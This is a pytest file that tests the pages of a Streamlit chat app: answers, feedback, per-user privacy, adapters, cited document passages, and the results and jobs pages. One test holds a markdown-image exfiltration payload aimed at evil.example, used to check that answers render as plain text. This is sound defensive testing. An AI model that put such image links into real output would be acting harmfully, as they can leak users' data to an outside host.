"""The pages, run by Streamlit's own test driver over a tiny random model."""

import re
import sys
from pathlib import Path

import pytest

from adapt.records import Turn
from adapt.registry.bases.find import find_base
from tests.ui.driver import EMPTY_ACCOUNT, App
from ui.actions import chat as chat_actions
from ui.actions.documents import IngestRequest, ingest
from ui.components.chat.account import cited_passages, read_account
from ui.components.safe import plain
from ui.display.printable import printable

pytestmark = pytest.mark.slow


def test_a_message_is_answered_and_the_answer_is_stored(app: App) -> None:
    app.run()

    turn = app.say("When does the office open?")

    assert (turn.status, turn.question) == ("done", "When does the office open?")
    assert turn.answer
    assert printable(turn.answer) in app.texts()
    assert not app.page.error


def test_a_second_message_goes_on_with_the_same_conversation(app: App) -> None:
    app.run()

    first, second = app.say("When does the office open?"), app.say("And on Sunday?")

    assert second.session_id == first.session_id
    assert len(app.ctx.feedback.sessions("me")) == 1


def test_a_thumb_is_stored_and_shown_again_by_a_new_page(app: App) -> None:
    app.run()
    turn = app.say("When does the office open?")

    app.page.feedback(key=f"thumbs-{turn.turn_id}").set_value(0)
    app.run()

    stored = app.ctx.feedback.feedback_of(turn.turn_id, user="me")
    assert stored is not None
    assert stored.rating == -1
    reopened = open_again(app, turn)
    assert reopened.page.feedback(key=f"thumbs-{turn.turn_id}").value == 0


def test_a_correction_is_stored_and_goes_into_the_next_prompt(app: App) -> None:
    app.run()
    turn = app.say("When does the office open?")

    app.page.text_area(key=f"right-{turn.turn_id}").set_value("At nine.")
    app.page.text_input(key=f"comment-{turn.turn_id}").set_value("not eight")
    next(b for b in app.page.button if b.label == "Save").click()
    app.run()

    stored = app.ctx.feedback.feedback_of(turn.turn_id, user="me")
    assert stored is not None
    assert (stored.correction, stored.comment) == ("At nine.", "not eight")
    assert "At nine." in app.texts()
    assert "At nine." in str(account_of(app, app.say("When does the office open today?")))


def test_with_feedback_switched_off_the_correction_stays_out_of_the_prompt(app: App) -> None:
    app.run()
    turn = app.say("When does the office open?")
    chat_actions.rate(app.ctx, turn.turn_id, user="me", correction="At nine.")

    app.page.toggle(key="use_feedback").set_value(False)
    app.run()

    assert "At nine." not in str(account_of(app, app.say("When does the office open today?")))


def test_another_user_sees_nothing_of_it(app: App) -> None:
    app.run()
    app.be("ana")
    turn = app.say("My secret is 4711")
    assert any("secret" in button.label for button in app.page.button)

    app.be("ben")

    assert app.turns() == []
    assert not any("4711" in text for text in app.texts())
    assert not any("secret" in button.label for button in app.page.button)
    app.page.session_state["conversation"] = turn.session_id
    app.run()
    assert not any("4711" in text for text in app.texts())
    app.page.chat_input(key="message").set_value("go on with it")
    app.run()
    assert "no conversation named" in app.page.error[0].value
    assert len(app.ctx.feedback.turns(turn.session_id, user="ana")) == 1


def test_a_name_that_is_only_blanks_is_asked_for(app: App) -> None:
    app.run()

    app.be("  ")

    assert "Write your name" in app.page.info[0].value
    assert not app.page.chat_input


def test_a_broken_model_is_one_sentence_and_the_page_stays_usable(app: App) -> None:
    broken = app.ctx.workspace.path / "broken"
    broken.mkdir()
    settings = app.ctx.workspace.path / "adapt.toml"
    good = settings.read_text()
    settings.write_text(f'[chat]\nmodel = "{broken}"\n')

    app.run()
    app.page.chat_input(key="message").set_value("hello")
    app.run()

    assert "has no config.json" in app.page.error[0].value.replace("\\", "")
    settings.write_text(good)
    assert app.say("hello").status == "done"
    assert not app.page.error


def test_an_answer_that_failed_says_so_and_does_not_stop_the_page(app: App) -> None:
    session_id = app.ctx.feedback.new_session("me")
    store_turn(app, Turn("t1", session_id, "me", "hello", "so far", status="failed"))

    app.page.session_state["conversation"] = session_id
    app.run()

    assert "failed" in app.page.error[0].value
    assert "so far" in app.texts()


def test_a_chosen_domain_answers(app: App, tiny_adapter: Path) -> None:
    reference = publish(app, "dates", tiny_adapter)
    app.run()
    plain_answer = app.say("When does the office open?")

    app.page.selectbox(key="domain").set_value(reference)
    app.run()
    turn = app.say("When does the office open?")

    assert (plain_answer.adapter, turn.adapter) == ("", "dates@1")
    assert turn.answer != plain_answer.answer


def test_an_adapter_of_another_base_is_not_offered(app: App, tiny_adapter: Path) -> None:
    publish(app, "dates", tiny_adapter)
    publish(app, "foreign", tiny_adapter, fingerprint="0" * 64)

    app.run()

    assert app.page.selectbox(key="domain").options == ["none", "dates@1"]


def test_the_documents_passages_stand_under_the_answer(app: App, tmp_path: Path) -> None:
    folder = tmp_path / "documents"
    folder.mkdir()
    (folder / "opening.md").write_text("# Opening\n\nThe office opens at 8:00 on weekdays.\n")
    ingest(app.ctx, IngestRequest(paths=(folder,), collection="demo"))

    app.run()
    turn = app.say("When does the office open?")

    assert turn.collection == "demo"
    (piece,) = [p for p in account_of(app, turn)["pieces"] if p["number"] is not None]
    assert piece["label"] == "opening.md"
    assert app.page.get("html") == []  # drawn when it is opened
    app.page.session_state[f"passage-{turn.turn_id}-1"] = True
    app.run()
    (body,) = app.page.get("html")
    assert "<mark" in body.proto.body
    assert "The office opens at 8:00 on weekdays." in body.proto.body
    assert "opening.md" in [
        element.value.replace("\\", "").strip("*") for element in app.page.markdown
    ]


def test_what_a_reader_should_know_of_an_answer_stands_under_it(app: App) -> None:
    session_id = app.ctx.feedback.new_session("me")
    notice = "Nothing in your documents is near this question."
    known = {**EMPTY_ACCOUNT, "notices": [notice], "removed_citations": 2}
    app.ctx.feedback.begin_turn(Turn("t1", session_id, "me", "q", "a"), account=known)
    account = {
        **EMPTY_ACCOUNT,
        "removed_citations": 1,
        "unsupported_citations": [2],
        "corrected_citations": [[1, 3]],
    }
    app.ctx.feedback.begin_turn(Turn("t2", session_id, "me", "q", "a"), account=account)

    app.page.session_state["conversation"] = session_id
    app.run()

    assert [warning.value.replace("\\", "") for warning in app.page.warning] == [notice]
    removed = [caption.value for caption in app.page.caption if "removed" in caption.value]
    assert "2 of the answer's citations point to no passage and were removed." in removed[0]
    assert "1 of the answer's citations points to no passage and was removed." in removed[1]
    captions = [re.sub("[\\\\\u2060]", "", caption.value) for caption in app.page.caption]
    assert any(
        "1 sentence lost its citation: passage 2 does not say it." in caption
        for caption in captions
    )
    assert any("the sentence stands in passage 3, not in 1." in caption for caption in captions)


def test_a_follow_up_question_is_shown_as_it_was_searched(app: App) -> None:
    session_id = app.ctx.feedback.new_session("me")
    searched = "who makes the Merlin saw?"
    known = {**EMPTY_ACCOUNT, "searched": searched, "searched_by": "pronoun"}
    app.ctx.feedback.begin_turn(Turn("t1", session_id, "me", "who makes it?", "a"), account=known)
    app.ctx.feedback.begin_turn(Turn("t2", session_id, "me", "q", "a"), account=EMPTY_ACCOUNT)

    app.page.session_state["conversation"] = session_id
    app.run()

    captions = [caption.value.replace("\\", "") for caption in app.page.caption]
    assert [caption for caption in captions if "searched" in caption] == [
        f"searched for: {searched}"
    ]


def test_with_documents_switched_off_no_passage_is_in_the_prompt(app: App, tmp_path: Path) -> None:
    (tmp_path / "opening.md").write_text("The office opens at 8:00 on weekdays.\n")
    ingest(app.ctx, IngestRequest(paths=(tmp_path / "opening.md",), collection="demo"))
    app.run()

    app.page.toggle(key="use_documents").set_value(False)
    app.run()

    assert account_of(app, app.say("When does the office open?"))["pieces"] == []


def test_an_answer_is_text_and_never_markdown(app: App) -> None:
    evil = "![x](http://evil.example/?q=secret) <img src=http://evil.example> [a](http://b.example)"
    session_id = app.ctx.feedback.new_session("me")
    store_turn(app, Turn("t1", session_id, "me", evil, evil))

    app.page.session_state["conversation"] = session_id
    app.run()

    assert app.texts().count(evil) == 2
    assert not any("evil.example" in element.value for element in app.page.markdown)
    (title,) = [b.label for b in app.page.button if "evil" in b.label]
    assert not re.search(r"(?<!\\)[][()<>!:/]", title)


def test_the_models_page_lists_and_promotes(app: App, tiny_adapter: Path) -> None:
    publish(app, "dates", tiny_adapter)
    app.run()

    app.page.switch_page("views/models.py")
    app.run()
    app.page.button(key="promote-dates@1").click()
    app.run()

    assert app.ctx.registry.aliases("dates")["production"] == 1
    assert app.page.dataframe[0].value["reference"].tolist() == ["dates@1"]
    assert "dates@1 · adapter" in app.page.code[0].value


def test_empty_pages_say_what_to_do(app: App) -> None:
    app.run()
    captions = " ".join(caption.value for caption in app.page.caption)
    assert "No adapters" in captions
    assert "No documents" in captions

    app.page.switch_page("views/models.py")
    assert "No models yet" in app.run().info[0].value
    app.page.switch_page("views/results.py")
    assert "No results yet" in app.run().info[0].value


def test_the_results_page_draws_the_newest_scoreboard(app: App) -> None:
    gain = {"difference": 0.5, "low": 0.4, "high": 0.6, "better": True}
    none = {"difference": 0.0, "low": 0.0, "high": 0.0, "better": False}
    cell = {"metric": "exact", "low": 0.1, "high": 0.9, "n": 40}
    board = {
        "starter": {"dates": {**cell, "mean": 0.25, "gain": none}},
        "dates@1": {"dates": {**cell, "mean": 0.75, "gain": gain}},
    }
    job = app.ctx.jobs.start("demo", title="demo", settings={}, command=[sys.executable, "-c", ""])
    result = {"scoreboard": board, "gain_recovered": {"merged@1": {"dates": 0.8}}}
    app.ctx.jobs.finish(job.job_id, "done", result=result)
    app.run()

    app.page.switch_page("views/results.py")
    app.run()

    table = app.page.dataframe[0].value
    assert table["model"].tolist() == ["starter", "dates@1"]
    assert table["dates"].tolist() == ["0.25 (0.10 to 0.90)", "0.75 (0.10 to 0.90)  +0.50 ✓"]
    assert app.page.dataframe[1].value["dates"].tolist() == ["80 %"]
    assert len(app.page.get("vega_lite_chart")) == 1


def test_a_running_job_shows_how_far_it_is_and_can_be_cancelled(app: App) -> None:
    wait = [sys.executable, "-c", "import time; time.sleep(60)"]
    job = app.ctx.jobs.start("demo", title="train", settings={}, command=wait)
    app.run()

    app.page.button(key=f"cancel-{job.job_id}").click()
    app.run()

    assert app.ctx.jobs.get(job.job_id).status == "cancelled"
    assert any("cancelled" in caption.value for caption in app.page.caption)


@pytest.mark.parametrize(
    "text",
    [
        "**bold** `code`",
        "[a](http://b.example)",
        ":smile: :red[x]",
        "$x$ www.b.example a@b.example",
    ],
)
def test_plain_leaves_no_markdown_and_no_letter_out(text: str) -> None:
    shown = plain(text).replace("\\", "").replace("\u2060", "")

    assert shown == text
    assert "://" not in plain(text)
    assert "www." not in plain(text).replace("\\", "")


def test_only_the_passages_that_an_answer_cites_are_marked() -> None:
    pieces = [
        {"source": "documents", "piece_id": str(n), "label": "a.md", "text": "", "score": 0.5}
        | {"kept": True, "number": n}
        for n in (1, 2, 3)
    ]
    account = read_account({**EMPTY_ACCOUNT, "pieces": pieces})

    assert cited_passages(account, "It opens at 8:00 [2]; not (3), [x] or [7].") == {2}


def open_again(app: App, turn: Turn) -> App:
    """Return a fresh page over the same server with a turn's conversation open."""
    fresh = App(type(app.page).from_file(app.page._script_path, default_timeout=120), app.ctx)
    fresh.page.session_state["conversation"] = turn.session_id
    fresh.run()
    return fresh


def account_of(app: App, turn: Turn) -> dict[str, list[dict[str, object]]]:
    account = app.ctx.feedback.account(turn.turn_id, user=turn.user)
    assert isinstance(account, dict)
    return account


def store_turn(app: App, turn: Turn) -> None:
    app.ctx.feedback.begin_turn(turn, account=EMPTY_ACCOUNT)


def publish(app: App, name: str, adapter: Path, *, fingerprint: str = "") -> str:
    model = app.ctx.workspace.settings("chat", chat_actions.ChatSettings).model
    record = find_base(model, app.ctx.workspace).record
    if fingerprint:
        record = record.model_copy(update={"sha256": fingerprint})
    with app.ctx.registry.stage(name) as staging:
        for file in adapter.iterdir():
            (staging.path / file.name).write_bytes(file.read_bytes())
        return staging.publish("adapter", base=record, summary="of a test").reference
